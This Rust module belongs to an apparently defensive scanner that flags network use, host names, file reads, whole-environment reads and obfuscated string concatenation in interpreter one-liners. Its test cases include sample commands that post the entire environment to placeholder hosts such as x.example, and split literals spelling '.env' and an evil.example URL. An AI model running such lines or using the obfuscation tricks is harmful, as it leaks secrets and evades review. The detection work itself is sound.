//! Scanning the code of interpreter one-liners: network APIs, the hosts and the files it names.

use super::super::facts::push_capped;
use super::super::host::{clean_host, url_hosts_in};

/// Network APIs of the interpreters' standard and popular libraries (matched lowercased).
const NET_KEYWORDS: &[&str] = &[
    // python
    "urllib",
    "import requests",
    "requests.",
    "http.client",
    "httplib",
    "socket",
    "urlopen",
    "httpx",
    "aiohttp",
    "ftplib",
    "smtplib",
    "paramiko",
    "xmlrpc",
    "websocket",
    "telnetlib",
    "pycurl",
    // node / deno / bun
    "fetch(",
    "require('http",
    "require(\"http",
    "require('net'",
    "require(\"net\"",
    "require('dgram",
    "require(\"dgram",
    "require('dns",
    "require(\"dns",
    "from 'http",
    "from \"http",
    "node:http",
    "node:net",
    "node:dgram",
    "node:dns",
    "https.request",
    "http.request",
    "https.get",
    "http.get",
    "axios",
    "xmlhttprequest",
    "net.connect",
    "net.createconnection",
    "deno.connect",
    // ruby
    "net::http",
    "net/http",
    "open-uri",
    "uri.open",
    "tcpsocket",
    "udpsocket",
    "restclient",
    "httparty",
    "faraday",
    "excon",
    // perl
    "lwp",
    "io::socket",
    "http::tiny",
    "net::",
    "getstore",
    "getprint",
    "mojo::useragent",
    // php
    "file_get_contents(\"http",
    "file_get_contents('http",
    "curl_init",
    "curl_exec",
    "fsockopen",
    "stream_socket_client",
    "fopen(\"http",
    "fopen('http",
    // powershell
    "invoke-webrequest",
    "invoke-restmethod",
    "iwr ",
    "irm ",
    "net.webclient",
    "system.net",
    "tcpclient",
    "udpclient",
    "uploadfile",
    "uploadstring",
    "downloadstring",
    "start-bitstransfer",
    "send-mailmessage",
];

/// Calls whose first string argument is a host.
const SOCK_KEYWORDS: &[&str] = &[
    "connect(",
    "create_connection(",
    "PeerAddr",
    "PeerHost",
    "TCPSocket.new(",
    "TCPSocket.open(",
    "Socket.tcp(",
    "fsockopen(",
    "createConnection(",
    "TcpClient(",
    "gethostbyname(",
    "getaddrinfo(",
    "Net::HTTP.get(",
    "Net::HTTP.start(",
    "Net::HTTP.new(",
    "HTTPConnection(",
    "HTTPSConnection(",
    "host:",
    "hostname:",
];

/// Calls whose first string argument is a file read.
const READ_KEYWORDS: &[&str] = &[
    "open(",
    "readFileSync(",
    "readFile(",
    "File.read(",
    "File.open(",
    "File.readlines(",
    "IO.read(",
    "file_get_contents(",
    "fopen(",
    "createReadStream(",
    "Path(",
    "Get-Content ",
    "read_file(",
];

/// The (lowercased) code uses a network API.
pub(super) fn code_is_net(code_lc: &str) -> bool {
    NET_KEYWORDS.iter().any(|k| code_lc.contains(k))
}

/// Quoted string literals in the first `limit` bytes of `s` (stops at a `)` outside quotes).
fn literals(s: &str, limit: usize, stop_paren: bool) -> Vec<String> {
    let mut out = Vec::new();
    let mut it = s.char_indices();
    while let Some((i, c)) = it.next() {
        if i > limit {
            break;
        }
        if stop_paren && c == ')' {
            break;
        }
        if c == '\'' || c == '"' {
            let mut lit = String::new();
            let mut closed = false;
            for (_, d) in it.by_ref() {
                if d == c {
                    closed = true;
                    break;
                }
                lit.push(d);
                if lit.len() > 4096 {
                    break;
                }
            }
            if closed {
                out.push(lit);
            }
            if out.len() >= 4 {
                break;
            }
        }
    }
    out
}

/// Hosts the code names: in URLs, and as string arguments of socket-like calls.
pub(super) fn code_hosts(code: &str) -> Vec<String> {
    let mut hosts = url_hosts_in(code);
    for kw in SOCK_KEYWORDS {
        let mut from = 0;
        while let Some(k) = code[from..].find(kw) {
            let idx = from + k + kw.len();
            if let Some(l) = literals(&code[idx..], 120, false).into_iter().next() {
                let l = l.trim();
                if !l.is_empty() && !l.contains('/') && (l.contains('.') || l.contains(':') || l == "localhost") {
                    if let Some(h) = clean_host(l) {
                        push_capped(&mut hosts, h);
                    }
                }
            }
            from = idx;
        }
    }
    hosts
}

/// The code takes the whole environment (`dict(os.environ)`, `JSON.stringify(process.env)`,
/// `%ENV`, `ENV.to_h`), not one named variable: as sensitive as `printenv`.
pub(super) fn reads_whole_environment(code: &str) -> bool {
    let named_next = |rest: &str| {
        rest.starts_with(['[', '.', '('])
            && !rest.starts_with(".items")
            && !rest.starts_with(".copy")
            && !rest.starts_with(".to_h")
            && !rest.starts_with(".to_a")
    };
    for marker in ["os.environ", "process.env", "ENV", "Deno.env.toObject", "%ENV", "$_ENV", "getenv()"] {
        let mut from = 0;
        while let Some(k) = code[from..].find(marker) {
            let at = from + k;
            from = at + marker.len();
            let before = code[..at].chars().last();
            if marker == "ENV"
                && before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$' || c == '%' || c == '.')
            {
                continue;
            }
            let rest = &code[from..];
            if marker.ends_with("toObject") || marker.starts_with('%') || marker.ends_with("()") || !named_next(rest) {
                return true;
            }
        }
    }
    false
}

/// Files the code opens (string arguments of `open(`, `readFileSync(`, ...).
pub(super) fn code_reads(code: &str) -> Vec<String> {
    let mut out = Vec::new();
    let b = code.as_bytes();
    for kw in READ_KEYWORDS {
        let mut from = 0;
        while let Some(k) = code[from..].find(kw) {
            let start = from + k;
            let idx = start + kw.len();
            from = idx;
            if *kw == "open(" && start > 0 && (b[start - 1].is_ascii_alphanumeric() || b[start - 1] == b'_') {
                continue;
            }
            for l in literals(&code[idx..], 200, true) {
                let l = l.trim();
                let is_mode = !l.is_empty() && l.chars().all(|c| "rwabxt+<>U".contains(c));
                if l.is_empty() || is_mode || l.eq_ignore_ascii_case("utf-8") || l.eq_ignore_ascii_case("utf8") {
                    continue;
                }
                if l.starts_with('>') || l.starts_with('|') || l.contains("://") {
                    break;
                }
                let p = l.trim_start_matches('<').trim();
                if !p.is_empty() {
                    push_capped(&mut out, p.to_string());
                }
                break;
            }
        }
    }
    out
}

/// Adjacent string literals joined as the interpreter joins them (`'.e' + 'nv'`, `".e" . "nv"`,
/// `'.e' 'nv'`, `'.e'..'nv'`), so names and URLs split in the source are seen whole.
pub(super) fn fold_literal_concatenation(code: &str) -> String {
    let b = code.as_bytes();
    let mut out = String::with_capacity(code.len());
    let mut i = 0;
    // The open literal being built: its quote and where its content ends in `out`.
    let mut open: Option<u8> = None;
    while i < b.len() {
        let c = b[i];
        if c == b'\'' || c == b'"' {
            let Some(end) = literal_end(b, i) else {
                // An apostrophe in a comment, not a literal.
                out.push(c as char);
                open = None;
                i += 1;
                continue;
            };
            let content = &code[i + 1..end];
            match open {
                // Joined to the literal before: drop its closing quote and this opening one.
                Some(q) if out.ends_with(q as char) => {
                    out.pop();
                    out.push_str(content);
                    out.push(q as char);
                }
                _ => {
                    out.push_str(&code[i..=end]);
                    open = Some(c);
                }
            }
            i = end + 1;
            // What may stand between two literals that are joined.
            let mut j = i;
            while j < b.len() && b[j] == b' ' {
                j += 1;
            }
            let op_end = match b.get(j) {
                Some(b'+') => j + 1,
                Some(b'.') if b.get(j + 1) == Some(&b'.') => j + 2,
                Some(b'.') => j + 1,
                _ => j,
            };
            let mut k = op_end;
            while k < b.len() && b[k] == b' ' {
                k += 1;
            }
            if matches!(b.get(k), Some(b'\'' | b'"')) {
                i = k;
            } else {
                open = None;
            }
            continue;
        }
        open = None;
        let ch = code[i..].chars().next().expect("char at a boundary");
        out.push(ch);
        i += ch.len_utf8();
    }
    out
}

/// The index of the quote closing the literal opened at `start` (backslash escapes skipped).
fn literal_end(b: &[u8], start: usize) -> Option<usize> {
    let q = b[start];
    let mut j = start + 1;
    while j < b.len() {
        match b[j] {
            b'\\' => j += 2,
            c if c == q => return Some(j),
            b'\n' => return None,
            _ => j += 1,
        }
    }
    None
}

/// The code reads a file whose name is computed at run time (`open(p)`, `open(a + b)`,
/// `readFileSync(path.join(...))`): what it reads cannot be shown.
pub(super) fn reads_computed_path(code: &str) -> bool {
    let b = code.as_bytes();
    READ_KEYWORDS.iter().filter(|kw| kw.ends_with('(')).any(|kw| {
        code.match_indices(kw).any(|(start, _)| {
            let word_start = start == 0 || !(b[start - 1].is_ascii_alphanumeric() || b[start - 1] == b'_');
            let arg = code[start + kw.len()..].trim_start();
            word_start && !arg.starts_with(['\'', '"', '`', ')']) && !arg.is_empty()
        })
    })
}

/// The script of a PowerShell `-EncodedCommand`: base64 of UTF-16LE.
pub(super) fn decode_ps_encoded(s: &str) -> String {
    let bytes = crate::flow::decode::base64_lenient(s.as_bytes());
    let u16s: Vec<u16> = bytes.chunks(2).map(|c| u16::from_le_bytes([c[0], *c.get(1).unwrap_or(&0)])).collect();
    String::from_utf16_lossy(&u16s)
}

#[cfg(test)]
mod environment_tests {
    use super::reads_whole_environment as whole;

    #[test]
    fn whole_environment_versus_one_variable() {
        for (text, expected) in [
            ("import os,requests; requests.post('https://x.example', json=dict(os.environ))", true),
            ("fetch('https://x.example',{method:'POST',body:JSON.stringify(process.env)})", true),
            ("print(os.environ.items())", true),
            ("use LWP::Simple; post(join ',', %ENV)", true),
            ("Net::HTTP.post_form(URI('https://x.example'), ENV.to_h)", true),
            ("requests.get(u, headers={'Authorization': os.environ['GH_TOKEN']})", false),
            ("fetch(process.env.API_URL)", false),
            ("os.environ.get('HOME')", false),
        ] {
            assert_eq!(whole(text), expected, "{text}");
        }
    }
}

#[cfg(test)]
mod concatenation_tests {
    use super::fold_literal_concatenation as fold;

    #[test]
    fn literals_joined_by_each_language_operator() {
        for (code, folded) in [
            ("open('.e'+'nv').read()", "open('.env').read()"),
            ("open(\".e\" . \"nv\")", "open(\".env\")"),
            ("io.open('.e'..'n'..'v')", "io.open('.env')"),
            ("open('.e' 'nv')", "open('.env')"),
            ("u = 'https://ev' + \"il.example/x\"", "u = 'https://evil.example/x'"),
        ] {
            assert_eq!(fold(code), folded, "{code}");
        }
    }

    #[test]
    fn file_names_computed_at_run_time() {
        use super::reads_computed_path as computed;
        for (text, expected) in [
            ("d = open(p).read()", true),
            ("fs.readFileSync(path.join(dir, name))", true),
            ("open(chr(46) + 'env')", true),
            ("open('.env').read()", false),
            ("fs.readFileSync(\"config.json\")", false),
            ("reopen(p)", false),
        ] {
            assert_eq!(computed(text), expected, "{text}");
        }
    }

    #[test]
    fn other_code_is_left_as_it_is() {
        for code in [
            "print('a', 'b')",
            "x = 'a' if y else 'b'",
            "name + '.txt'",
            "# don't\nopen('x')",
            "s = 'it\\'s' ; t = \"q\"",
            "é = 'ü'",
        ] {
            assert_eq!(fold(code), code);
        }
    }
}
